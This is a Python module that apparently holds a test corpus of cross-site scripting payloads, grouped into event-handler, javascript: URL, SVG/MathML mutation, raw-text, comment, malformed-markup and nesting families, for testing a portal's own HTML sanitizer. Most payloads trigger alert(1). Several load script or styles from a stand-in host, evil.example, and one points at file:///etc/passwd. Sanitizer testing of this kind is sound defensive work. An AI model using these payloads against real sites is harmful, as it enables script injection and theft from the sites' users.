"""Attacks by families, written for this portal's own sanitizer."""

# ruff: noqa: E501 - an attack is one line

from itertools import product

CALL = "alert(1)"

_NAMES = (
    "onabort onanimationend onauxclick onbeforetoggle onblur oncanplay onclick onclose "
    "oncontentvisibilityautostatechange oncopy ondblclick ondragend onerror onfocus onfocusin "
    "onformdata ongotpointercapture onhashchange oninput onkeydown onload onloadstart onmessage "
    "onmouseover onpageshow onpaste onpointerrawupdate onresize onscrollend onsearch "
    "onselectionchange onsubmit ontoggle ontouchstart ontransitionend onunhandledrejection "
    "onwebkitanimationstart onwheel "
)
_EVENTS = _NAMES.split()
_CARRIERS = (
    "<p {}>x</p>", "<img src=x {}>", "<a href=/ {}>x</a>", "<body {}>x", "<details open {}>x",
    "<video src=x {}></video>", "<table {}><tr><td>x</table>", "<marquee {}>x</marquee>",
)  # fmt: skip
EVENTS = [
    _CARRIERS[index % len(_CARRIERS)].format(f"{event}={CALL}")
    for index, event in enumerate(_EVENTS)
] + [
    f"<p/onclick={CALL}>x</p>", f"<p\nonclick\n=\n{CALL}>x</p>", f"<p\x0conclick={CALL}>x</p>",
    f"<p title='\"' onclick={CALL}>x</p>", f"<p OnClIcK={CALL}>x</p>",
    f"<p a=\"'\" onclick='{CALL}'>x</p>", f"<p onclick=`{CALL}`>x</p>",
    f"<p =\" onclick={CALL} \">x</p>", f"<p title=`x` onclick={CALL}>x</p>",
    f"<p \x00onclick={CALL}>x</p>", f"<p o\x00nclick={CALL}>x</p>", f"<img src=x\x0bonerror={CALL}>",
    f"<p title=x/onclick={CALL}>x</p>", f"<img src='node:1'onerror={CALL}>",
    f"<img src=\"node:1\"\"onerror={CALL}>", f"<img alt='' src=node:1 alt=x onerror={CALL}>",
]  # fmt: skip

_SCRIPTS = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"\tjavascript:{CALL}",
    f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java\rscript:{CALL}", f"\x01javascript:{CALL}",
    f"\x00javascript:{CALL}", f"java\x00script:{CALL}", f"javascript\t:{CALL}",
    f"javascript&colon;{CALL}", f"javascript&#58;{CALL}", f"javascript&#x3a;{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}", f"&#0000106avascript:{CALL}",
    f"&#x000006aavascript:{CALL}", f"java&Tab;script:{CALL}", f"java&NewLine;script:{CALL}",
    f"java&#9;script:{CALL}", f"java&#10;script:{CALL}", f"java&#13;script:{CALL}",
    f"&#1;javascript:{CALL}", f"&#14; javascript:{CALL}", f"javascript://%0a{CALL}",
    f"javascript://www.example.org/%0a{CALL}", f"javascript:/*--></title>*/{CALL}",
    f"\u00a0javascript:{CALL}", f"\u2028javascript:{CALL}", f"\u3000javascript:{CALL}",
    f"\ufeffjavascript:{CALL}", f"java\u200bscript:{CALL}", f"java\u00adscript:{CALL}",
    f"jav\u0430script:{CALL}", f"view-source:javascript:{CALL}", f"feed:javascript:{CALL}",
    f"jar:javascript:{CALL}", "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", f"livescript:{CALL}",
    f"mocha:{CALL}", f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "d\nata:text/html,x",
    "blob:https://example.org/x", "filesystem:https://example.org/x", "file:///etc/passwd",
    "file:\\\\server\\share", "ms-word:ofe|u|https://example.org/x", "intent://x#Intent;end",
    "about:blank", "ws://example.org", "ftp://example.org", "gopher://example.org", "tel\t:1",
    f"x:javascript:{CALL}", f"//javascript:{CALL}", f"node:javascript:{CALL}", "node:1;x",
    "node:-1", "node:1x", "node:", "node:99999999999999999999999", f"node:1\"onclick={CALL}",
    f"https:javascript:{CALL}", "http://[", "http://[::1", "https://", "http:", "\\\\evil.example",
    "/\\evil.example", "\\/evil.example", "/\t/evil.example", "///evil.example", "..//evil.example",
]  # fmt: skip
ADDRESSES = [f"<a href='{script}'>x</a>" for script in _SCRIPTS] + [
    pattern.format(_SCRIPTS[0])
    for pattern in (
        "<img src={}>", "<img srcset={}>", "<img lowsrc={}>", "<form action={}><button>x</form>",
        "<button formaction={}>x</button>", "<input type=image formaction={}>", "<base href={}>",
        "<iframe src={}></iframe>", "<embed src={}>", "<object data={}></object>",
        "<a xlink:href={}>x</a>", "<area href={}>", "<link rel=import href={}>",
        "<blockquote cite={}>x</blockquote>", "<q cite={}>x</q>", "<ins cite={}>x</ins>",
        "<table background={}><tr><td>x</table>", "<td background={}>x", "<body background={}>x",
        "<video poster={}>x</video>", "<a href=/ ping={}>x</a>", "<p itemid={}>x</p>",
        "<meta http-equiv=refresh content='0;url={}'>", "<frameset><frame src={}></frameset>",
        "<isindex action={}>", "<svg><a xlink:href={}><text y=9>x</text></a></svg>",
        "<math href={}>x</math>", "<a href=\"{}", "<a href={}", "<a href={}//x",
    )
]  # fmt: skip

FOREIGN = [
    template.format(call=CALL)
    for template in (
        "<svg onload={call}>",
        "<svg/onload={call}>",
        "<svg><script>{call}</script></svg>",
        "<svg><style><img src=x onerror={call}></style></svg>",
        "<svg><animate onbegin={call} attributeName=x></svg>",
        "<svg><set attributeName=href to=javascript:{call}></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'></svg>",
        "<svg><foreignObject><p onclick={call}>x</p></foreignObject></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror={call}>">',
        "<svg><p><style><!--</style><img src=x onerror={call}>--></style>",
        "<svg><title><p title='</title><img src=x onerror={call}>'></p></title></svg>",
        "<svg><desc><table><svg><style><img src=x onerror={call}></style>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={call}>'>",
        "<math><mtext><mglyph><style><img src=x onerror={call}></style></mglyph></mtext></math>",
        "<math><annotation-xml encoding='text/html'><p onclick={call}>x</annotation-xml></math>",
        "<math><mi><table><tr><td><svg><script>{call}</script></td></tr></table></mi></math>",
        "<math><maction actiontype=statusline#x xlink:href=javascript:{call}>x</maction></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
        "<form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
        "<img onerror={call} src>'>",
        "<a><svg></a><p><style><a title='</style><img src onerror={call}>'>",
        "<table><svg><td><style><p title='</style><img src onerror={call}>'>",
    )
]

RAW_TEXT = [
    f"<{tag}><p title=\"</{tag}><img src=x onerror={CALL}>\"></{tag}>"
    for tag in ("style", "script", "textarea", "title", "xmp", "noscript", "noembed", "noframes",
                "iframe", "plaintext", "template", "select", "option", "listing", "comment")
] + [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script\x0c>{CALL}</script\x0c>",
    f"<script/x>{CALL}</script/x>", f"<script>{CALL}", f"<scr<script>ipt>{CALL}</script>",
    f"<<script>{CALL}//<</script>", f"<script <p>{CALL}</script>", f"<script>{CALL}</script >x",
    f"<script>/*</script><img src=x onerror={CALL}>*/</script>", "<script src=//evil.example>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "<style>@import '//evil.example';</style>", "<style>p{background:url(//evil.example)}</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    f"<template><script>{CALL}</script></template>", f"<textarea autofocus onfocus={CALL}>x",
    f"<select><style></select><img src=x onerror={CALL}></style></select>",
    f"<title></title><img src=x onerror={CALL}>", f"</title><img src=x onerror={CALL}>",
    f"<xml><x><script>{CALL}</script></x></xml>", "<xml id=x src=//evil.example></xml>",
]  # fmt: skip

COMMENTS = [
    template.format(call=CALL)
    for template in (
        "<!--><img src=x onerror={call}>-->",
        "<!---><img src=x onerror={call}>-->",
        "<!-- --!><img src=x onerror={call}>-->",
        "<!--<img src='--><img src=x onerror={call}>'>-->",
        "<![CDATA[<img src=x onerror={call}>]]>",
        "<![CDATA[><img src=x onerror={call}>]]>",
        "<?xml version='1.0'?><img src=x onerror={call}>",
        "<? foo='><img src=x onerror={call}>'>",
        "<!foo='><img src=x onerror={call}>'>",
        "</foo='><img src=x onerror={call}>'>",
        "<%<!--'%><img src=x onerror={call}>",
        "<!--[if IE]><script>{call}</script><![endif]-->",
        "<!--[if gte mso 9]><img src=x onerror={call}><![endif]-->",
        "<![if !x]><script>{call}",
        "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={call}>'>]>&y;",
        "<!-- x",
        "<!-",
        "<!",
        "</ img src=x onerror={call}>",
        "</><img src=x onerror={call}>",
        "<//img src=x onerror={call}>",
    )
]

BROKEN = [
    template.format(call=CALL)
    for template in (
        "<img src=x onerror={call}", "<img src=x onerror={call}<p>x", "<p title=\"<img src=x onerror={call}>",
        "<p title='x\"><img src=x onerror={call}>'>y", "<b><p title='</b><img src=x onerror={call}>'>x",
        "<a href=\"/\"title=\"'onclick={call}'\">x</a>", "<img \"\"\"><script>{call}</script>\">",
        "<img src=x:x onerror\n=\n{call}//", "<img src=x onerror=\"{call}\"//", "<<img src=x onerror={call}>",
        "<img/src/onerror={call}>", "< img src=x onerror={call}>", "<i\x00mg src=x onerror={call}>",
        "<img\x00 src=x onerror={call}>", "<\x00img src=x onerror={call}>", "<p title=&quot;><img src=x onerror={call}>",
        "&lt;script&gt;{call}&lt;/script&gt;", "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
        "&#60;script&#62;{call}&#60;/script&#62;", "&#x3C;img src=x onerror={call}&#x3E;",
        "&lt<script>{call}</script>", "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
        "<\u0338script>{call}</script>", "<p>\u0338<img src=x onerror={call}>", "<table><img src=x onerror={call}>",
        "<table><caption><script>{call}</script>", "<ul><li onclick={call}><ul><script>{call}</script>",
        "<a href='/'><a href='javascript:{call}'>x</a></a>", "<a href='/'><table><a href='javascript:{call}'>x",
        "<pre>\n<script>{call}</script></pre>", "<pre><code><img src=x onerror={call}></code></pre>",
        "<figure><figcaption><svg onload={call}></figcaption></figure>", "<dl><dt><script>{call}</script><dd>x</dl>",
        "<p lang='en\" onclick={call} \"'>x</p>", "<span lang='\"><script>{call}</script>'>x</span>",
        "<abbr title='\"><script>{call}</script>'>x</abbr>", "<a href='/\"onclick={call}'>x</a>",
        "<a href='https://x/?\"><script>{call}</script>'>x</a>", "<a href='#\" onclick={call}'>x</a>",
        "<img src=node:1 alt='\"onerror={call}'>", "<img src=node:1 alt='\"><script>{call}</script>'>",
        "<time datetime='2026\" onclick={call}'>x</time>", "<ol start='1\" onclick={call}'><li>x</ol>",
        "<ol type='a\" onclick={call}'><li>x</ol>", "<td colspan='2\" onclick={call}'>x",
        "<p style='background:url(javascript:{call})'>x</p>", "<p style='x:expression({call})'>x</p>",
        "<p style='-moz-binding:url(//evil.example)'>x</p>", "<p style=\"mso-list:l0 level1\" onclick={call}>x</p>",
        "<p style='mso-list:l0 level1 lfo1'><script>{call}</script></p>",
        "<p class=x id=x name=x slot=x is=x part=x>x</p>", "<p data-x='{call}' aria-label=x tabindex=0>x</p>",
        "<p contenteditable autofocus onfocus={call}>x</p>", "<dialog open onclose={call}>x</dialog>",
        "<form id=x></form><button form=x formaction=javascript:{call}>x", "<input autofocus onfocus={call}>",
        "<keygen autofocus onfocus={call}>", "<isindex prompt=x>", "<marquee onstart={call}>x</marquee>",
        "<object type='text/x-scriptlet' data=//evil.example></object>", "<applet code=x></applet>",
        "<embed code=//evil.example/x.swf allowscriptaccess=always>", "<portal src=//evil.example onload={call}>",
        "<iframe srcdoc='<script>{call}</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;{call}&lt;/script&gt;'>",
        "<link rel=stylesheet href=//evil.example>", "<meta charset=utf-7>+ADw-script+AD4-{call}+ADw-/script+AD4-",
        "<meta http-equiv=set-cookie content=x=y>", "<head><base href=//evil.example></head>x",
        "<html onmouseover={call}>x", "<custom-element onclick={call}>x</custom-element>",
        "<o:p onclick={call}>x</o:p>", "<v:vmlframe src=//evil.example>x", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
        "<audio src=x onerror={call}></audio>", "<video><source onerror={call}></video>", "<track onerror={call}>",
        "<img usemap=#x src=node:1><map name=x><area href=javascript:{call}></map>", "<bgsound src=javascript:{call}>",
        "<layer src=//evil.example></layer>", "<picture><source srcset=x onerror={call}><img src=node:1></picture>",
    )
]  # fmt: skip

# The same attack inside every element that may hold text.
NESTED = [
    f"<{outer}><script>{CALL}</script><img src=x onerror={CALL}><a href='javascript:{CALL}'>x</a>"
    for outer in ("p", "h2", "ul", "li", "ol", "blockquote", "table", "caption", "td", "th", "pre",
                  "code", "figure", "figcaption", "dl", "dt", "dd", "abbr", "q", "sup")
]  # fmt: skip

PAIRS = [
    f"<{one}><{two}><img src=x onerror={CALL}></{one}><p onclick={CALL}>x</{two}>"
    for one, two in product(("b", "table", "svg", "select"), ("a", "p", "math", "template"))
]

ALL = [*EVENTS, *ADDRESSES, *FOREIGN, *RAW_TEXT, *COMMENTS, *BROKEN, *NESTED, *PAIRS]
